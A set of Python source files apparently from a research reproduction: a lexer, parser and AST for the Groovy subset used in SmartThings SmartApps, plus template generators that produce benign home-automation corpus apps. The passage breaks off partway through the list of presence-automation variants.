        self._expect(TokenType.LBRACE, "to open closure")
        params = self._try_parse_closure_params()
        statements: list[ast.Stmt] = []
        self._skip_semicolons()
        while not self._check(TokenType.RBRACE) and not self._check(TokenType.EOF):
            statements.append(self._parse_statement())
            self._skip_semicolons()
        self._expect(TokenType.RBRACE, "to close closure")
        body = ast.Block(location=location, statements=statements)
        return ast.ClosureExpr(location=location, params=params, body=body)

    def _try_parse_closure_params(self) -> list[ast.ClosureParam]:
        """Parse ``a, b ->`` if present; otherwise leave position intact."""
        checkpoint = self._pos
        params: list[ast.ClosureParam] = []
        while self._check(TokenType.IDENT):
            params.append(
                ast.ClosureParam(location=self._loc(), name=self._advance().value)
            )
            if not self._match(TokenType.COMMA):
                break
        if params and self._match(TokenType.ARROW):
            return params
        self._pos = checkpoint
        return []

    def _parse_primary(self) -> ast.Expr:
        token = self._peek()
        if token.type is TokenType.INT:
            self._advance()
            return ast.IntLiteral(location=token.location, value=token.value)
        if token.type is TokenType.DECIMAL:
            self._advance()
            return ast.DecimalLiteral(location=token.location, value=token.value)
        if token.type is TokenType.STRING:
            self._advance()
            return ast.StringLiteral(location=token.location, value=token.value)
        if token.type is TokenType.GSTRING:
            self._advance()
            return self._build_gstring(token)
        if token.type is TokenType.TRUE:
            self._advance()
            return ast.BoolLiteral(location=token.location, value=True)
        if token.type is TokenType.FALSE:
            self._advance()
            return ast.BoolLiteral(location=token.location, value=False)
        if token.type is TokenType.NULL:
            self._advance()
            return ast.NullLiteral(location=token.location)
        if token.type is TokenType.IDENT:
            self._advance()
            return ast.Identifier(location=token.location, name=token.value)
        if token.type is TokenType.LPAREN:
            self._advance()
            expr = self.parse_expression()
            self._expect(TokenType.RPAREN, "to close parenthesized expression")
            return expr
        if token.type is TokenType.LBRACKET:
            return self._parse_list_or_map()
        if token.type is TokenType.LBRACE:
            return self._parse_closure()
        if token.type is TokenType.NEW:
            return self._parse_constructor()
        raise ParseError(
            f"unexpected token {token.type.value!r} in expression", token.location
        )

    def _build_gstring(self, token: Token) -> ast.GStringLiteral:
        parts: list[object] = []
        for part in token.value:
            if isinstance(part, tuple):
                sub_tokens = tokenize(part[1])
                sub_parser = Parser(sub_tokens)
                parts.append(sub_parser.parse_expression())
            else:
                parts.append(part)
        return ast.GStringLiteral(location=token.location, parts=parts)

    def _parse_list_or_map(self) -> ast.Expr:
        location = self._loc()
        self._expect(TokenType.LBRACKET, "to open list or map literal")
        if self._match(TokenType.RBRACKET):
            return ast.ListLiteral(location=location, elements=[])
        if self._check(TokenType.COLON):
            self._advance()
            self._expect(TokenType.RBRACKET, "to close empty map literal")
            return ast.MapLiteral(location=location, entries=[])
        first_key = self._parse_map_key_or_element()
        if self._match(TokenType.COLON):
            value = self.parse_expression()
            entries = [ast.MapEntry(location=location, key=first_key, value=value)]
            while self._match(TokenType.COMMA):
                key = self._parse_map_key_or_element()
                self._expect(TokenType.COLON, "in map literal entry")
                entries.append(
                    ast.MapEntry(
                        location=key.location, key=key, value=self.parse_expression()
                    )
                )
            self._expect(TokenType.RBRACKET, "to close map literal")
            return ast.MapLiteral(location=location, entries=entries)
        elements = [first_key]
        while self._match(TokenType.COMMA):
            elements.append(self.parse_expression())
        self._expect(TokenType.RBRACKET, "to close list literal")
        return ast.ListLiteral(location=location, elements=elements)

    def _parse_map_key_or_element(self) -> ast.Expr:
        """Map keys that are bare identifiers act as string constants."""
        token = self._peek()
        if token.type is TokenType.IDENT and self._check(TokenType.COLON, 1):
            self._advance()
            return ast.StringLiteral(location=token.location, value=token.value)
        return self.parse_expression()

    def _parse_constructor(self) -> ast.ConstructorCall:
        location = self._loc()
        self._expect(TokenType.NEW, "to start constructor call")
        type_parts = [self._expect(TokenType.IDENT, "as type name").value]
        while self._check(TokenType.DOT) and self._check(TokenType.IDENT, 1):
            self._advance()
            type_parts.append(self._advance().value)
        args: list[ast.Expr | ast.NamedArgument] = []
        if self._check(TokenType.LPAREN):
            args = self._parse_paren_arguments()
        return ast.ConstructorCall(
            location=location, type_name=".".join(type_parts), args=args
        )


def parse(source: str) -> ast.Module:
    """Parse SmartApp source text into a :class:`Module`."""
    return Parser(tokenize(source)).parse_module()
