"""AST node definitions for the Groovy-subset front-end.

The node set mirrors the constructs SmartApps actually use inside the
SmartThings sandbox.  Every node carries a :class:`SourceLocation` so
later stages (symbolic executor, instrumentation) can reference source
lines.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Iterator

from repro.lang.errors import SourceLocation


@dataclass(slots=True)
class Node:
    """Base class of all AST nodes."""

    location: SourceLocation


# ----------------------------------------------------------------------
# Expressions


@dataclass(slots=True)
class Expr(Node):
    """Base class of expression nodes."""


@dataclass(slots=True)
class IntLiteral(Expr):
    value: int


@dataclass(slots=True)
class DecimalLiteral(Expr):
    value: float


@dataclass(slots=True)
class StringLiteral(Expr):
    value: str


@dataclass(slots=True)
class GStringLiteral(Expr):
    """A double-quoted string with interpolation.

    ``parts`` interleaves literal ``str`` fragments and embedded
    :class:`Expr` nodes, in source order.
    """

    parts: list[Any]


@dataclass(slots=True)
class BoolLiteral(Expr):
    value: bool


@dataclass(slots=True)
class NullLiteral(Expr):
    pass


@dataclass(slots=True)
class ListLiteral(Expr):
    elements: list[Expr]


@dataclass(slots=True)
class MapEntry(Node):
    key: Expr
    value: Expr


@dataclass(slots=True)
class MapLiteral(Expr):
    entries: list[MapEntry]


@dataclass(slots=True)
class RangeLiteral(Expr):
    low: Expr
    high: Expr


@dataclass(slots=True)
class Identifier(Expr):
    name: str


@dataclass(slots=True)
class PropertyAccess(Expr):
    receiver: Expr
    name: str
    safe: bool = False  # true for `?.`


@dataclass(slots=True)
class IndexAccess(Expr):
    receiver: Expr
    index: Expr


@dataclass(slots=True)
class NamedArgument(Node):
    """``title: "Which TV?"`` style argument in a call."""

    name: str
    value: Expr


@dataclass(slots=True)
class MethodCall(Expr):
    """A call ``receiver.name(args)`` or bare ``name(args)``.

    Groovy command syntax (``input "tv1", "capability.switch"``) parses
    into the same node with ``parenthesized=False``.  Trailing closure
    arguments (``devices.each { ... }``) land in ``args`` last.
    """

    receiver: Expr | None
    name: str
    args: list[Expr | NamedArgument]
    safe: bool = False
    parenthesized: bool = True

    def positional_args(self) -> list[Expr]:
        return [arg for arg in self.args if not isinstance(arg, NamedArgument)]

    def named_args(self) -> dict[str, Expr]:
        return {
            arg.name: arg.value for arg in self.args if isinstance(arg, NamedArgument)
        }


@dataclass(slots=True)
class ConstructorCall(Expr):
    """``new Date()`` and friends."""

    type_name: str
    args: list[Expr | NamedArgument]


@dataclass(slots=True)
class MethodPointer(Expr):
    """``this.&handler`` method reference."""

    receiver: Expr
    name: str


@dataclass(slots=True)
class BinaryOp(Expr):
    op: str
    left: Expr
    right: Expr


@dataclass(slots=True)
class UnaryOp(Expr):
    op: str
    operand: Expr


@dataclass(slots=True)
class TernaryOp(Expr):
    condition: Expr
    if_true: Expr
    if_false: Expr


@dataclass(slots=True)
class ElvisOp(Expr):
    value: Expr
    fallback: Expr


@dataclass(slots=True)
class ClosureParam(Node):
    name: str


@dataclass(slots=True)
class ClosureExpr(Expr):
    """``{ dev -> ... }``; parameterless closures get the implicit ``it``."""

    params: list[ClosureParam]
    body: Block


@dataclass(slots=True)
class CastExpr(Expr):
    """``expr as Type`` — SmartApps use it for `as Integer` coercion."""

    value: Expr
    type_name: str


# ----------------------------------------------------------------------
# Statements


@dataclass(slots=True)
class Stmt(Node):
    """Base class of statement nodes."""


@dataclass(slots=True)
class Block(Node):
    statements: list[Stmt]

    def __iter__(self) -> Iterator[Stmt]:
        return iter(self.statements)


@dataclass(slots=True)
class ExprStmt(Stmt):
    expr: Expr


@dataclass(slots=True)
class VarDecl(Stmt):
    name: str
    initializer: Expr | None


@dataclass(slots=True)
class Assignment(Stmt):
    """``target = value`` (also ``+=``/``-=`` via ``op``)."""

    target: Expr
    value: Expr
    op: str = "="


@dataclass(slots=True)
class IfStmt(Stmt):
    condition: Expr
    then_block: Block
    else_block: Block | None


@dataclass(slots=True)
class SwitchCase(Node):
    # None matches the `default:` label.
    match: Expr | None
    body: Block
    has_break: bool = True


@dataclass(slots=True)
class SwitchStmt(Stmt):
    subject: Expr
    cases: list[SwitchCase]


@dataclass(slots=True)
class ForInStmt(Stmt):
    variable: str
    iterable: Expr
    body: Block


@dataclass(slots=True)
class WhileStmt(Stmt):
    condition: Expr
    body: Block


@dataclass(slots=True)
class ReturnStmt(Stmt):
    value: Expr | None


@dataclass(slots=True)
class BreakStmt(Stmt):
    pass


@dataclass(slots=True)
class LabeledStmt(Stmt):
    """``action: [GET: "handler"]`` inside web-service ``mappings``."""

    label: str
    value: Expr


# ----------------------------------------------------------------------
# Declarations


@dataclass(slots=True)
class Param(Node):
    name: str
    default: Expr | None = None


@dataclass(slots=True)
class MethodDecl(Node):
    name: str
    params: list[Param]
    body: Block


@dataclass(slots=True)
class Module(Node):
    """A parsed SmartApp: top-level statements plus method declarations.

    ``top_level`` keeps source order (the ``definition``/``preferences``
    blocks and bare ``input`` calls appear here); ``methods`` indexes
    declarations by name for the executors.
    """

    top_level: list[Stmt] = field(default_factory=list)
    methods: dict[str, MethodDecl] = field(default_factory=dict)

    def method(self, name: str) -> MethodDecl | None:
        return self.methods.get(name)


# ----------------------------------------------------------------------
# Visitor

class NodeVisitor:
    """Generic visitor over the AST (the paper's compiler customization
    uses the same pattern over Groovy class nodes).

    Subclasses define ``visit_<ClassName>`` methods; unhandled nodes fall
    back to :meth:`generic_visit`, which recurses into child nodes.
    """

    def visit(self, node: Node) -> Any:
        method = getattr(self, f"visit_{type(node).__name__}", None)
        if method is not None:
            return method(node)
        return self.generic_visit(node)

    def generic_visit(self, node: Node) -> Any:
        for child in iter_child_nodes(node):
            self.visit(child)
        return None


def iter_child_nodes(node: Node) -> Iterator[Node]:
    """Yield the direct AST children of ``node`` in source order."""
    for slot in type(node).__dataclass_fields__:
        if slot == "location":
            continue
        value = getattr(node, slot)
        if isinstance(value, Node):
            yield value
        elif isinstance(value, list):
            for item in value:
                if isinstance(item, Node):
                    yield item
        elif isinstance(value, dict):
            for item in value.values():
                if isinstance(item, Node):
                    yield item


def walk(node: Node) -> Iterator[Node]:
    """Yield ``node`` and all descendants, depth-first, in source order."""
    yield node
    for child in iter_child_nodes(node):
        yield from walk(child)
