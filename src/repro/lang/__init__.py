"""Groovy-subset front-end for SmartApp source code.

SmartApps are Groovy programs, but SmartThings runs them inside a
sandboxed ``Executor`` that bans most dynamic features (paper
Section VIII-D.2).  This package implements a from-scratch lexer,
recursive-descent parser and AST for the surviving subset: the
``definition``/``preferences``/``input`` metadata DSL, paren-free command
calls, method declarations, closures, GStrings, ternaries, switches and
the usual expression grammar.

The public entry point is :func:`parse`, which maps source text to a
:class:`repro.lang.ast_nodes.Module`.
"""

from repro.lang.ast_nodes import Module
from repro.lang.errors import LexError, ParseError, SourceLocation
from repro.lang.lexer import Lexer, tokenize
from repro.lang.parser import Parser, parse
from repro.lang.tokens import Token, TokenType

__all__ = [
    "Lexer",
    "LexError",
    "Module",
    "ParseError",
    "Parser",
    "SourceLocation",
    "Token",
    "TokenType",
    "parse",
    "tokenize",
]
