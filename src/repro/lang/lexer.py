"""Lexer for the Groovy subset used by SmartApps.

Design notes
------------
Groovy is newline-sensitive: a newline ends a statement unless the line
obviously continues (open bracket, trailing binary operator, ...).  The
lexer therefore does not emit NEWLINE tokens; instead each token records
whether a newline preceded it (``Token.after_newline``) and the parser
decides when that terminates a statement.  This mirrors how the real
Groovy grammar treats ``nls`` productions and keeps the token stream
simple.

GStrings (double-quoted strings with ``${expr}`` or ``$ident``
interpolation) are tokenized into a part list; embedded expressions are
captured as raw source and parsed later by the parser, keeping the lexer
regular.
"""

from __future__ import annotations

from repro.lang.errors import LexError, SourceLocation
from repro.lang.tokens import KEYWORDS, Token, TokenType

_SIMPLE_ESCAPES = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "b": "\b",
    "f": "\f",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "$": "$",
    "0": "\0",
}

# Multi-character operators, longest first so maximal munch works.
_OPERATORS: list[tuple[str, TokenType]] = [
    ("<=>", TokenType.SPACESHIP),
    ("**", TokenType.POWER),
    ("?.", TokenType.SAFE_DOT),
    (".&", TokenType.METHOD_REF),
    ("?:", TokenType.ELVIS),
    ("->", TokenType.ARROW),
    ("==", TokenType.EQ),
    ("!=", TokenType.NEQ),
    ("<=", TokenType.LE),
    (">=", TokenType.GE),
    ("&&", TokenType.AND),
    ("||", TokenType.OR),
    ("+=", TokenType.PLUS_ASSIGN),
    ("-=", TokenType.MINUS_ASSIGN),
    ("++", TokenType.INCREMENT),
    ("--", TokenType.DECREMENT),
    ("..", TokenType.RANGE),
    ("(", TokenType.LPAREN),
    (")", TokenType.RPAREN),
    ("{", TokenType.LBRACE),
    ("}", TokenType.RBRACE),
    ("[", TokenType.LBRACKET),
    ("]", TokenType.RBRACKET),
    (",", TokenType.COMMA),
    (".", TokenType.DOT),
    (":", TokenType.COLON),
    (";", TokenType.SEMICOLON),
    ("=", TokenType.ASSIGN),
    ("<", TokenType.LT),
    (">", TokenType.GT),
    ("!", TokenType.NOT),
    ("+", TokenType.PLUS),
    ("-", TokenType.MINUS),
    ("*", TokenType.STAR),
    ("/", TokenType.SLASH),
    ("%", TokenType.PERCENT),
    ("?", TokenType.QUESTION),
]


class Lexer:
    """Converts SmartApp source text into a list of :class:`Token`."""

    def __init__(self, source: str) -> None:
        self._source = source
        self._pos = 0
        self._line = 1
        self._col = 1
        self._pending_newline = False
        self._tokens: list[Token] = []

    def tokenize(self) -> list[Token]:
        """Lex the whole source, returning tokens terminated by EOF."""
        while self._pos < len(self._source):
            ch = self._peek()
            if ch in " \t\r":
                self._advance()
            elif ch == "\n":
                self._pending_newline = True
                self._advance()
            elif ch == "/" and self._peek(1) == "/":
                self._skip_line_comment()
            elif ch == "/" and self._peek(1) == "*":
                self._skip_block_comment()
            elif ch.isdigit():
                self._lex_number()
            elif ch == '"':
                self._lex_gstring()
            elif ch == "'":
                self._lex_plain_string()
            elif ch.isalpha() or ch == "_" or ch == "$":
                self._lex_identifier()
            else:
                self._lex_operator()
        self._emit(TokenType.EOF, None, self._location())
        return self._tokens

    # ------------------------------------------------------------------
    # Character helpers

    def _peek(self, offset: int = 0) -> str:
        index = self._pos + offset
        if index >= len(self._source):
            return ""
        return self._source[index]

    def _advance(self) -> str:
        ch = self._source[self._pos]
        self._pos += 1
        if ch == "\n":
            self._line += 1
            self._col = 1
        else:
            self._col += 1
        return ch

    def _location(self) -> SourceLocation:
        return SourceLocation(self._line, self._col)

    def _emit(self, token_type: TokenType, value: object, location: SourceLocation) -> None:
        self._tokens.append(
            Token(token_type, value, location, after_newline=self._pending_newline)
        )
        self._pending_newline = False

    # ------------------------------------------------------------------
    # Token scanners

    def _skip_line_comment(self) -> None:
        while self._pos < len(self._source) and self._peek() != "\n":
            self._advance()

    def _skip_block_comment(self) -> None:
        start = self._location()
        self._advance()
        self._advance()
        while self._pos < len(self._source):
            if self._peek() == "*" and self._peek(1) == "/":
                self._advance()
                self._advance()
                return
            if self._advance() == "\n":
                # A comment spanning lines still separates statements.
                self._pending_newline = True
        raise LexError("unterminated block comment", start)

    def _lex_number(self) -> None:
        start = self._location()
        text = []
        while self._peek().isdigit():
            text.append(self._advance())
        is_decimal = False
        # A '.' begins a decimal part only when followed by a digit; this
        # distinguishes `1.5` from the range operator in `1..5`.
        if self._peek() == "." and self._peek(1).isdigit():
            is_decimal = True
            text.append(self._advance())
            while self._peek().isdigit():
                text.append(self._advance())
        # Groovy numeric suffixes (L, G, f, d) — accepted and ignored.
        if self._peek() and self._peek() in "LlGgFfDd" and not self._peek(1).isalnum():
            suffix = self._advance()
            if suffix in "FfDd":
                is_decimal = True
        literal = "".join(text)
        if is_decimal:
            self._emit(TokenType.DECIMAL, float(literal), start)
        else:
            self._emit(TokenType.INT, int(literal), start)

    def _lex_plain_string(self) -> None:
        start = self._location()
        self._advance()  # opening quote
        chars: list[str] = []
        while True:
            if self._pos >= len(self._source):
                raise LexError("unterminated string literal", start)
            ch = self._advance()
            if ch == "'":
                break
            if ch == "\\":
                chars.append(self._read_escape(start))
            else:
                chars.append(ch)
        self._emit(TokenType.STRING, "".join(chars), start)

    def _read_escape(self, start: SourceLocation) -> str:
        if self._pos >= len(self._source):
            raise LexError("dangling escape at end of input", start)
        ch = self._advance()
        if ch in _SIMPLE_ESCAPES:
            return _SIMPLE_ESCAPES[ch]
        if ch == "u":
            digits = "".join(self._advance() for _ in range(4))
            try:
                return chr(int(digits, 16))
            except ValueError as exc:
                raise LexError(f"invalid unicode escape \\u{digits}", start) from exc
        raise LexError(f"unknown escape sequence \\{ch}", start)

    def _lex_gstring(self) -> None:
        """Lex a double-quoted string, splitting out ``${...}`` parts.

        Emits GSTRING when interpolation is present, otherwise a plain
        STRING (the common case; it keeps downstream matching simple).
        """
        start = self._location()
        self._advance()  # opening quote
        parts: list[object] = []
        literal: list[str] = []

        def flush() -> None:
            if literal:
                parts.append("".join(literal))
                literal.clear()

        while True:
            if self._pos >= len(self._source):
                raise LexError("unterminated string literal", start)
            ch = self._advance()
            if ch == '"':
                break
            if ch == "\\":
                literal.append(self._read_escape(start))
            elif ch == "$" and self._peek() == "{":
                self._advance()  # consume '{'
                flush()
                parts.append(("expr", self._read_interpolation(start)))
            elif ch == "$" and (self._peek().isalpha() or self._peek() == "_"):
                flush()
                ident = []
                while self._peek() and (self._peek().isalnum() or self._peek() in "_."):
                    # `$a.b` interpolates a property path in Groovy.
                    if self._peek() == "." and not (
                        self._peek(1).isalpha() or self._peek(1) == "_"
                    ):
                        break
                    ident.append(self._advance())
                parts.append(("expr", "".join(ident)))
            else:
                literal.append(ch)
        flush()
        has_interpolation = any(isinstance(part, tuple) for part in parts)
        if has_interpolation:
            self._emit(TokenType.GSTRING, parts, start)
        else:
            self._emit(TokenType.STRING, parts[0] if parts else "", start)

    def _read_interpolation(self, start: SourceLocation) -> str:
        """Capture raw source between ``${`` and its matching ``}``."""
        depth = 1
        captured: list[str] = []
        while depth > 0:
            if self._pos >= len(self._source):
                raise LexError("unterminated ${...} interpolation", start)
            ch = self._advance()
            if ch == "{":
                depth += 1
            elif ch == "}":
                depth -= 1
                if depth == 0:
                    break
            captured.append(ch)
        return "".join(captured)

    def _lex_identifier(self) -> None:
        start = self._location()
        chars = []
        while self._peek() and (self._peek().isalnum() or self._peek() in "_$"):
            chars.append(self._advance())
        word = "".join(chars)
        token_type = KEYWORDS.get(word, TokenType.IDENT)
        value = word if token_type is TokenType.IDENT else word
        self._emit(token_type, value, start)

    def _lex_operator(self) -> None:
        start = self._location()
        for text, token_type in _OPERATORS:
            if self._source.startswith(text, self._pos):
                for _ in text:
                    self._advance()
                self._emit(token_type, text, start)
                return
        raise LexError(f"unexpected character {self._peek()!r}", start)


def tokenize(source: str) -> list[Token]:
    """Convenience wrapper: lex ``source`` into a token list."""
    return Lexer(source).tokenize()
