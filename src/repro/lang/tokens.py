"""Token definitions for the Groovy-subset lexer."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any

from repro.lang.errors import SourceLocation


class TokenType(enum.Enum):
    """Lexical categories recognised by :class:`repro.lang.lexer.Lexer`."""

    # Literals
    INT = "INT"
    DECIMAL = "DECIMAL"
    STRING = "STRING"          # plain single-quoted or escape-free string
    GSTRING = "GSTRING"        # double-quoted string with ${...} parts
    IDENT = "IDENT"

    # Keywords (a closed subset of Groovy's keyword set)
    DEF = "def"
    IF = "if"
    ELSE = "else"
    SWITCH = "switch"
    CASE = "case"
    DEFAULT = "default"
    BREAK = "break"
    RETURN = "return"
    TRUE = "true"
    FALSE = "false"
    NULL = "null"
    FOR = "for"
    WHILE = "while"
    IN = "in"
    NEW = "new"
    INSTANCEOF = "instanceof"

    # Punctuation and operators
    LPAREN = "("
    RPAREN = ")"
    LBRACE = "{"
    RBRACE = "}"
    LBRACKET = "["
    RBRACKET = "]"
    COMMA = ","
    DOT = "."
    SAFE_DOT = "?."
    METHOD_REF = ".&"
    COLON = ":"
    SEMICOLON = ";"
    ARROW = "->"
    ASSIGN = "="
    PLUS_ASSIGN = "+="
    MINUS_ASSIGN = "-="
    EQ = "=="
    NEQ = "!="
    LT = "<"
    LE = "<="
    GT = ">"
    GE = ">="
    SPACESHIP = "<=>"
    AND = "&&"
    OR = "||"
    NOT = "!"
    PLUS = "+"
    MINUS = "-"
    STAR = "*"
    SLASH = "/"
    PERCENT = "%"
    POWER = "**"
    QUESTION = "?"
    ELVIS = "?:"
    RANGE = ".."
    INCREMENT = "++"
    DECREMENT = "--"

    NEWLINE = "NEWLINE"
    EOF = "EOF"


KEYWORDS: dict[str, TokenType] = {
    "def": TokenType.DEF,
    "if": TokenType.IF,
    "else": TokenType.ELSE,
    "switch": TokenType.SWITCH,
    "case": TokenType.CASE,
    "default": TokenType.DEFAULT,
    "break": TokenType.BREAK,
    "return": TokenType.RETURN,
    "true": TokenType.TRUE,
    "false": TokenType.FALSE,
    "null": TokenType.NULL,
    "for": TokenType.FOR,
    "while": TokenType.WHILE,
    "in": TokenType.IN,
    "new": TokenType.NEW,
    "instanceof": TokenType.INSTANCEOF,
}


@dataclass(frozen=True, slots=True)
class Token:
    """A single lexical token.

    ``value`` holds the decoded payload: ``int`` for INT, ``float`` for
    DECIMAL, ``str`` for STRING/IDENT, and for GSTRING a list of parts
    where each part is either a literal ``str`` or a ``("expr", source)``
    tuple holding the raw text inside ``${...}`` (parsed lazily by the
    parser so the lexer stays a pure tokenizer).
    """

    type: TokenType
    value: Any
    location: SourceLocation
    # Whether this token was preceded by at least one newline; the parser
    # uses this for Groovy-style statement separation.
    after_newline: bool = field(default=False, compare=False)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Token({self.type.name}, {self.value!r}, {self.location})"
