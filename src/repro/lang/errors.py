"""Error types and source locations for the Groovy-subset front-end."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class SourceLocation:
    """A (line, column) position inside a SmartApp source file.

    Lines and columns are 1-based, matching what editors and the
    SmartThings web IDE display.
    """

    line: int
    column: int

    def __str__(self) -> str:
        return f"{self.line}:{self.column}"


class FrontEndError(Exception):
    """Base class for lexing/parsing errors.

    Carries the :class:`SourceLocation` at which the problem was
    detected so tooling (e.g. the rule extractor's coverage report) can
    point users at the offending SmartApp line.
    """

    def __init__(self, message: str, location: SourceLocation | None = None) -> None:
        self.location = location
        if location is not None:
            message = f"{message} (at {location})"
        super().__init__(message)


class LexError(FrontEndError):
    """Raised when the lexer encounters a malformed token."""


class ParseError(FrontEndError):
    """Raised when the parser cannot derive a valid AST."""
