"""Template-generated corpus apps.

The SmartThings public repository is dominated by a handful of
automation shapes (motion lighting, contact automations, climate
thresholds, presence actions, schedules, energy caps, safety
responders).  Each family below instantiates a shape with *distinct*
devices, thresholds, subscription styles and structure so the generated
population mirrors the repository's variety without copy-pasting a
single app N times.
"""

from __future__ import annotations

from repro.corpus.model import CorpusApp

# ----------------------------------------------------------------------
# Family 1: motion lighting (two structural variants)

_MOTION_LIGHT_VARIANTS = [
    # (suffix, light type, lux-gated, off-delay seconds, filtered subscribe)
    ("Hallway", "light", True, 0, False),
    ("Porch", "light", True, 120, True),
    ("Garage", "bulb", False, 300, True),
    ("Basement", "nightlight", True, 0, True),
    ("Kitchen", "bulb", False, 180, False),
    ("Stairs", "nightlight", True, 60, True),
    ("Closet", "light", False, 90, True),
    ("Laundry", "bulb", False, 240, False),
    ("Attic", "light", True, 600, True),
    ("Pantry", "nightlight", False, 30, True),
    ("Driveway", "light", True, 150, False),
    ("Shed", "bulb", False, 420, True),
]


def _motion_light_app(
    suffix: str, light_type: str, lux_gated: bool, off_delay: int, filtered: bool
) -> CorpusApp:
    name = f"MotionLight{suffix}"
    lux_input = (
        '\n    input "lightSensor", "capability.illuminanceMeasurement"'
        '\n    input "luxLevel", "number", title: "Only below (lux)"'
        if lux_gated
        else ""
    )
    subscribe = (
        'subscribe(motion1, "motion.active", motionActive)'
        if filtered
        else 'subscribe(motion1, "motion", motionActive)'
    )
    guard_open = ""
    guard_close = ""
    if lux_gated:
        guard_open = (
            "    def lux = lightSensor.currentIlluminance\n"
            "    if (lux < luxLevel) {\n    "
        )
        guard_close = "\n    }"
    body_value_check = (
        "" if filtered else '    if (evt.value != "active") { return }\n'
    )
    off_logic = ""
    off_method = ""
    if off_delay:
        off_logic = f"\n    runIn({off_delay}, lightOff)"
        off_method = f"""

def lightOff() {{
    light1.off()
}}"""
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Turn on the {suffix.lower()} light when motion is detected")

preferences {{
    input "motion1", "capability.motionSensor", title: "Where?"
    input "light1", "capability.switch", title: "Which light?"{lux_input}
}}

def installed() {{ {subscribe} }}
def updated() {{ unsubscribe(); {subscribe} }}

def motionActive(evt) {{
{body_value_check}{guard_open}    light1.on(){off_logic}{guard_close}
}}{off_method}
'''
    values: dict[str, object] = {}
    if lux_gated:
        values["luxLevel"] = 40
    return CorpusApp(
        name=name,
        category="switch",
        description=f"Motion-activated {suffix.lower()} lighting.",
        type_hints={"motion1": "motionSensor", "light1": light_type,
                    "lightSensor": "illuminanceSensor"},
        values=values,
        source=source,
    )


# ----------------------------------------------------------------------
# Family 2: contact-sensor automations

_CONTACT_VARIANTS = [
    # (name, event, action device+type, command, delay)
    ("FanOnWindowOpen", "open", ("fan1", "capability.switch", "fan"), "on", 0),
    ("FanOffWindowShut", "closed", ("fan1", "capability.switch", "fan"), "off", 0),
    ("ClosetLightDoor", "open", ("light1", "capability.switch", "light"), "on", 0),
    ("FridgeLeftOpen", "open", ("beeper", "capability.tone", "speaker"), "beep", 300),
    ("MailboxFlag", "open", ("lamp1", "capability.switch", "floorLamp"), "on", 0),
    ("PatioDoorValve", "open", ("valve1", "capability.valve", "sprinkler"), "close", 0),
    ("WindowHeaterCut", "open", ("heater1", "capability.switch", "heater"), "off", 0),
    ("SafeDrawerAlarm", "open", ("alarm1", "capability.alarm", "siren"), "siren", 0),
]


def _contact_app(
    name: str,
    event: str,
    target: tuple[str, str, str],
    command: str,
    delay: int,
) -> CorpusApp:
    input_name, input_cap, dev_type = target
    if delay:
        handler_body = f"    runIn({delay}, doAction)"
        extra = f"""

def doAction() {{
    if (contact1.currentContact == "{event}") {{
        {input_name}.{command}()
    }}
}}"""
    else:
        handler_body = f"    {input_name}.{command}()"
        extra = ""
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "React when a contact sensor reports {event}")

preferences {{
    input "contact1", "capability.contactSensor", title: "Which contact?"
    input "{input_name}", "{input_cap}"
}}

def installed() {{ subscribe(contact1, "contact.{event}", contactHandler) }}
def updated() {{ unsubscribe(); subscribe(contact1, "contact.{event}", contactHandler) }}

def contactHandler(evt) {{
{handler_body}
}}{extra}
'''
    return CorpusApp(
        name=name,
        category="switch" if input_cap == "capability.switch" else "other",
        description=f"{name}: contact {event} -> {input_name}.{command}.",
        type_hints={"contact1": "contactSensor", input_name: dev_type},
        source=source,
    )


# ----------------------------------------------------------------------
# Family 3: climate thresholds

_CLIMATE_VARIANTS = [
    # (name, sensor attr, op, threshold, device, type, command on trip, off too?)
    ("FreezeGuard", "temperature", "<", 38, "heater1", "heater", "on", True),
    ("AtticCooler", "temperature", ">", 95, "fan1", "fan", "on", True),
    ("GreenhouseHeat", "temperature", "<", 55, "heater1", "heater", "on", False),
    ("ServerRoomChill", "temperature", ">", 81, "ac1", "airConditioner", "on", True),
    ("WineCellarGuard", "temperature", ">", 65, "ac1", "airConditioner", "on", False),
    ("DryAirHumidifier", "humidity", "<", 30, "humidifier1", "humidifier", "on", True),
    ("MoldPreventer", "humidity", ">", 72, "dehumid1", "dehumidifier", "on", True),
    ("SeedlingWarmth", "temperature", "<", 68, "mat1", "heater", "on", False),
    ("PetRoomCooling", "temperature", ">", 85, "fan1", "fan", "on", True),
    ("PoolPumpHeat", "temperature", ">", 90, "pump1", "switch", "off", False),
]


def _climate_app(
    name: str,
    attribute: str,
    op: str,
    threshold: int,
    input_name: str,
    dev_type: str,
    command: str,
    with_reset: bool,
) -> CorpusApp:
    capability_name = (
        "capability.temperatureMeasurement"
        if attribute == "temperature"
        else "capability.relativeHumidityMeasurement"
    )
    sensor_type = (
        "temperatureSensor" if attribute == "temperature" else "humiditySensor"
    )
    reset_command = "off" if command == "on" else "on"
    reset = (
        f""" else {{
        {input_name}.{reset_command}()
    }}"""
        if with_reset
        else ""
    )
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Threshold automation on {attribute}")

preferences {{
    input "sensor1", "{capability_name}"
    input "limit", "number", title: "Threshold"
    input "{input_name}", "capability.switch"
}}

def installed() {{ subscribe(sensor1, "{attribute}", readingHandler) }}
def updated() {{ unsubscribe(); subscribe(sensor1, "{attribute}", readingHandler) }}

def readingHandler(evt) {{
    def reading = evt.value.toInteger()
    if (reading {op} limit) {{
        {input_name}.{command}()
    }}{reset}
}}
'''
    return CorpusApp(
        name=name,
        category="switch",
        description=f"{name}: {attribute} {op} {threshold} -> {input_name}.{command}.",
        type_hints={"sensor1": sensor_type, input_name: dev_type},
        values={"limit": threshold},
        source=source,
    )


# ----------------------------------------------------------------------
# Family 4: presence automations

_PRESENCE_VARIANTS = [
    ("EveryoneLeaves", "not present", "lights", "light", "off", None),
    ("HoneyImHome", "present", "lights", "light", "on", None),
    ("ArrivalThermostat", "present", "thermostat1", "thermostat", "heat", None),
    ("DepartureEco", "not present", "thermostat1", "thermostat", "off", None),
    ("GuestArrives", "present", "lock1", "doorLock", "unlock", None),
